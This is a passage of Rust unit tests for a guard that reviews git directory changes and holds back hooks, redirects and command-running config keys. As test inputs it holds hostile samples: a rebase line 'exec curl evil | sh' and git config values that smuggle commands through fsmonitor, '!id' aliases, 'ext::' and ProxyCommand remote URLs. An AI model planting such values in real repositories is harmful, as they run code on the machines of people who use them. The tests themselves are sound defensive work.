            assert!(executable_key(s, sub, k, Some("x")).is_none(), "{s}.{k}");
        }
    }

    #[test]
    fn git_paths() {
        let c = |p: &str| classify_git_path(&PathBuf::from(p));
        assert_eq!(c("config"), GitPathClass::Config);
        assert_eq!(c("config.worktree"), GitPathClass::Config);
        assert_eq!(c("modules/lib/config"), GitPathClass::Config);
        // A submodule named `a/b` with one named `c` inside: its git directories hold a HEAD.
        // A linked worktree's files as `git worktree add` writes them: applied; anything else is
        // held back.
        let v = |class, text: &[u8]| verdict_for(class, false, false, false, Some(text));
        assert_eq!(v(GitPathClass::WorktreeCommondir, b"../..\n"), Verdict::Accept);
        assert!(matches!(v(GitPathClass::WorktreeCommondir, b"/tmp/evil\n"), Verdict::Pending(_)));
        assert!(matches!(v(GitPathClass::WorktreeCommondir, b"../../..\n"), Verdict::Pending(_)));
        assert!(matches!(v(GitPathClass::WorktreeGitdir, b"/w/wt/.git\n"), Verdict::Pending(_)), "the caller decides by where it is");
        assert_eq!(verdict_for(GitPathClass::WorktreeCommondir, false, true, true, None), Verdict::Accept);
        assert!(matches!(verdict_for(GitPathClass::WorktreeCommondir, true, false, false, None), Verdict::Pending(_)), "a link");
        // (Unix paths: the linked worktrees the Linux runner reviews.)
        #[cfg(unix)]
        {
            assert_eq!(worktree_gitdir_target(b"/w/wt/.git\n"), Some("/w/wt/.git".into()));
            for bad in [&b"w/wt/.git\n"[..], b"/w/../etc/.git\n", b"/w/wt/.git\n\n", b"/w/wt/x\n", b"/w/w\x1bt/.git\n", b"/w/./wt/.git", b"\xff"] {
                assert_eq!(worktree_gitdir_target(bad), None, "{}", String::from_utf8_lossy(bad));
            }
        }
        // A repository planted among git's data (`refs/x` with a HEAD): nothing in it is data.
        let planted = |p: &str| classify_git_path_in(Path::new(p), &|d| d == Path::new("refs/x"));
        assert_eq!(planted("refs/x/config"), GitPathClass::Unknown);
        assert_eq!(planted("refs/x/HEAD"), GitPathClass::Unknown);
        assert_eq!(planted("refs/x/objects/ab/cd"), GitPathClass::Unknown);
        assert_eq!(planted("refs/heads/main"), GitPathClass::Plain);
        assert_eq!(planted("refs/x"), GitPathClass::Plain, "the directory itself: its files decide");
        assert_eq!(classify_git_path(Path::new("refs/heads/x/config")), GitPathClass::Plain, "no lookup: a ref");
        let nested = |p: &str| classify_git_path_in(Path::new(p), &|d| [Path::new("modules/a/b"), Path::new("modules/a/b/modules/c")].contains(&d));
        assert_eq!(nested("modules/a/b/modules/c/config"), GitPathClass::Config);
        assert_eq!(nested("modules/a/b/refs/heads/main"), GitPathClass::Plain);
        assert_eq!(nested("modules/a/x"), GitPathClass::Unknown, "in no submodule's git directory");
        // Every reading counts: a submodule named `x/refs` beside one named `x`.
        let both = |p: &str| classify_git_path_in(Path::new(p), &|d| [Path::new("modules/x"), Path::new("modules/x/refs")].contains(&d));
        assert_eq!(both("modules/x/refs/hooks/pre-commit"), GitPathClass::Hook);
        assert_eq!(both("modules/x/refs/heads/main"), GitPathClass::Unknown);
        assert_eq!(c("modules/refs/hooks/pre-commit"), GitPathClass::Hook, "a submodule named refs");
        // Default-deny: what git does not write is not applied by itself.
        for p in ["foo", "hooks2/x", "info/foo", "rebase-merge/strategy", "rebase-merge/strategy_opts", "sequencer/opts", "worktrees/w/foo", "HEADX", "_HEAD", "objectsx/y"] {
            assert_eq!(c(p), GitPathClass::Unknown, "{p}");
        }
        for p in ["MERGE_HEAD", "CHERRY_PICK_HEAD", "REBASE_HEAD", "rebase-merge/done", "rebase-apply/0001", "sequencer/head", "lfs/objects/ab/cd", "reftable/tables.list", "worktrees/w/HEAD", "worktrees/w/locked", "sharedindex.abc"] {
            assert_eq!(c(p), GitPathClass::Plain, "{p}");
        }
        assert_eq!(c("worktrees/w/config.worktree"), GitPathClass::Config);
        assert_eq!(c("hooks/pre-commit"), GitPathClass::Hook);
        assert_eq!(c("hooks/pre-commit.sample"), GitPathClass::Sample);
        let v = |existed, deleted| git_verdict(Path::new("hooks/pre-commit.sample"), false, deleted, existed, None);
        assert_eq!(v(false, false), Verdict::Accept, "git init writes the samples");
        assert_eq!(v(true, true), Verdict::Accept, "removing an inert sample runs nothing");
        assert!(matches!(v(true, false), Verdict::Pending(_)), "a changed sample is one rename from running");
        assert_eq!(c("hooks"), GitPathClass::Hook, "the hooks directory itself (replaced by a link)");
        assert_eq!(c("modules/lib/hooks"), GitPathClass::Hook);
        assert_eq!(c("remotes/origin"), GitPathClass::Redirect);
        assert_eq!(c("rebase-merge/git-rebase-todo"), GitPathClass::Todo);
        assert!(todo_runs_commands("pick abc x\nexec curl evil | sh\n") && todo_runs_commands("x make\n") && !todo_runs_commands("pick abc exec\n"));
        // Default-deny: only lines proven plain pass, however git would read the rest.
        for t in ["\x0bexec id\n", "\x0cx id\n", "\rexec id\n", "exec\tid\n", "pick a\n  exec id\n", "Exec id\n", "\u{a0}exec id\n", "pick a\n\x00exec id\n"] {
            assert!(todo_runs_commands(t), "{t:?}");
        }
        assert!(!todo_is_plain(b"pick a \xff\n"), "not UTF-8");
        for t in ["", "\n", "# exec id\n", "  pick abc subject\n\tfixup -C def x\nlabel onto\nreset onto\nmerge -C abc l # s\nupdate-ref refs/heads/x\nbreak\nnoop\nd abc\r\n"] {
            assert!(todo_is_plain(t.as_bytes()), "{t:?}");
        }
        assert_eq!(c("modules/lib/hooks/post-checkout"), GitPathClass::Hook);
        assert_eq!(c("commondir"), GitPathClass::Redirect);
        assert_eq!(c("worktrees/w/gitdir"), GitPathClass::WorktreeGitdir);
        assert_eq!(c("worktrees/w/commondir"), GitPathClass::WorktreeCommondir);
        assert_eq!(c("worktrees/w/config"), GitPathClass::Config);
        assert_eq!(c("worktrees/w/hooks/pre-commit"), GitPathClass::Hook);
        assert_eq!(c("objects/info/alternates"), GitPathClass::Redirect);
        assert_eq!(c("info/attributes"), GitPathClass::Redirect);
        assert_eq!(c("index.lock"), GitPathClass::Lock);
        assert_eq!(c("refs/heads/main.lock"), GitPathClass::Lock);
        for p in ["HEAD", "index", "packed-refs", "objects/ab/cdef", "refs/heads/config", "refs/heads/hooks/x", "logs/HEAD", "info/exclude", "description", "FETCH_HEAD", "modules/lib", "modules/lib/HEAD", "worktrees/w"] {
            assert_eq!(c(p), GitPathClass::Plain, "{p}");
        }
    }

    #[test]
    fn config_diff_splits_safe_from_executable() {
        let old = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = ../x\n";
        let new = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = /bin/sh -c id\n[remote \"origin\"]\n\turl = ../y\n[user]\n\tname = x\n[alias]\n\tst = status\n\tpwn = !id\n";
        let changes = diff_config(old, new).unwrap();
        let names: Vec<(String, bool)> = changes.iter().map(|c| (c.name(), c.executable.is_some())).collect();
        assert_eq!(names, vec![
            ("remote.origin.url".to_string(), false),
            ("core.fsmonitor".to_string(), true),
            ("user.name".to_string(), false),
            ("alias.st".to_string(), false),
            ("alias.pwn".to_string(), true),
        ]);
        let safe = safe_config(new, &changes).unwrap();
        let after = diff_config(old, &safe).unwrap();
        let names: Vec<String> = after.iter().map(KeyChange::name).collect();
        assert_eq!(names, vec!["remote.origin.url", "user.name", "alias.st"]);
        assert!(!safe.contains("fsmonitor") && !safe.contains("!id"), "{safe}");
        // Removing an executable key the user had is undone too (the old value comes back).
        let had = "[core]\n\tpager = less -R\n";
        let ch = diff_config(had, "[core]\n").unwrap();
        assert_eq!(safe_config("[core]\n", &ch).unwrap(), "[core]\n[core]\n\tpager = less -R\n");
    }

    #[test]
    fn only_keys_on_the_safe_list_with_harmless_values_pass() {
        let ok = |s: &str, sub: Option<&str>, k: &str, v: &str| unsafe_reason(s, sub, k, &[Some(v.to_string())]).is_none();
        assert!(ok("user", None, "name", "x") && ok("remote", Some("o"), "url", "https://h/x.git") && ok("remote", Some("o"), "url", "git@h:x.git") && ok("remote", Some("o"), "url", "../x"));
        assert!(ok("branch", Some("main"), "merge", "refs/heads/main") && ok("core", None, "bare", "false") && ok("alias", None, "st", "status -sb"));
        assert!(ok("submodule", Some("l"), "update", "rebase") && ok("extensions", None, "objectformat", "sha256"));
        for (s, sub, k, v) in [
            ("remote", Some("o"), "url", "ext::sh -c id"), ("remote", Some("o"), "url", "fd::3"), ("remote", Some("o"), "url", "ssh://-oProxyCommand=id/x"),
            ("remote", Some("o"), "url", "-uhttps://x"), ("remote", Some("o"), "url", "weird://x"), ("remote", Some("o"), "url", "-oProxyCommand=id:x"),
            ("alias", None, "st", "!id"), ("alias", None, "st", " !id"), ("alias", None, "st", "-c core.pager=id log"), ("submodule", Some("l"), "update", "!id"),
            ("core", None, "worktree", ".."), ("core", None, "pager", "less"), ("frobnicate", None, "x", "1"), ("core", None, "bare", "maybe"),
            ("remote", Some("o"), "uploadpack", "id"), ("branch", Some("m"), "mergeoptions", "-s ours"),
        ] {
            assert!(!ok(s, sub, k, v), "{s}.{k} = {v}");
        }
        // The reason names the executable table's entry when there is one.
        assert!(unsafe_reason("core", None, "fsmonitor", &[Some("x".into())]).unwrap().contains("status"));
        assert!(unsafe_reason("frob", None, "x", &[None]).unwrap().contains("git-safe-keys"));
    }

    #[test]
    fn a_config_git_reads_differently_or_not_at_all_is_pending_whole() {
        let fake = |list: crate::guard::gitoracle::ConfigList| move |_: &[u8]| Ok(list.clone());
        let old = b"[core]\n\tbare = false\n";
        let new = b"[core]\n\tbare = false\n[user]\n\tname = n\n";
        // git and the review agree: the safe key is applied, exactly the command's bytes.
        let agree = |b: &[u8]| Ok(gitconfig::parse_bytes(b).map(|c| c.entries.iter().map(|e| (e.name(), e.value.clone())).collect()).unwrap_or_default());
        match review_config(Some(old), new, &agree) {
            ConfigOutcome::Split { text, applied, pending } => {
                assert_eq!(text.as_bytes(), new);
                assert_eq!(applied.iter().map(KeyChange::name).collect::<Vec<_>>(), vec!["user.name"]);
                assert!(pending.is_empty());
            }
            o => panic!("{o:?}"),
        }
        // git reads another value than the review: the whole file.
        let other = fake(vec![("core.bare".into(), Some("false".into())), ("user.name".into(), Some("!sh".into()))]);
        assert!(matches!(review_config(Some(old), new, &|b| if b == new { other(b) } else { agree(b) }), ConfigOutcome::Whole(w) if w.contains("differently")));
        // git refuses it, or it is not UTF-8: the whole file.
        assert!(matches!(review_config(Some(old), new, &|b| if b == new { Err("bad config line 3".into()) } else { agree(b) }), ConfigOutcome::Whole(w) if w.contains("git cannot read")));
        assert!(matches!(review_config(Some(old), b"[core]\n# \xff\n\tfsmonitor = id\n", &agree), ConfigOutcome::Whole(w) if w.contains("UTF-8")));
        // Unsafe and safe keys together: the file written keeps the safe ones only.
        let mixed = b"[core]\n\tbare = false\n\tfsmonitor = id\n[user]\n\tname = n\n";
        match review_config(Some(old), mixed, &agree) {
            ConfigOutcome::Split { text, applied, pending } => {
                assert!(!text.contains("fsmonitor") && text.contains("name = n"), "{text}");
                assert_eq!((applied.len(), pending.len()), (1, 1));
            }
            o => panic!("{o:?}"),
        }
        // With the host's git as the oracle, when there is one.
        if crate::guard::gitoracle::trusted_git().is_some() {
            let crlf = b"[core]\r\n\tbare = false\r\n[alias]\r\n\tst = \\\r\n!id\r\n";
            match review_config(Some(old), crlf, &crate::guard::gitoracle::config_list) {
                ConfigOutcome::Split { pending, .. } => assert_eq!(pending.iter().map(KeyChange::name).collect::<Vec<_>>(), vec!["alias.st"]),
                o => panic!("{o:?}"),
            }
        }
    }

    #[test]
    fn set_key_round_trips() {
        let t = "[a]\n\tx = 1\n\tx = 2\n[b \"S\"] y = 3\n";
        let out = set_key(t, "a", None, "x", &[Some("9 ; not a comment".into())]).unwrap();
        let c = gitconfig::parse(&out).unwrap();
        let vals: Vec<_> = c.entries.iter().map(|e| (e.name(), e.value.clone())).collect();
        assert_eq!(vals, vec![("b.S.y".into(), Some("3".into())), ("a.x".into(), Some("9 ; not a comment".into()))]);
        let out = set_key(t, "b", Some("S"), "y", &[]).unwrap();
        assert_eq!(out, "[a]\n\tx = 1\n\tx = 2\n[b \"S\"]\n");
    }
}
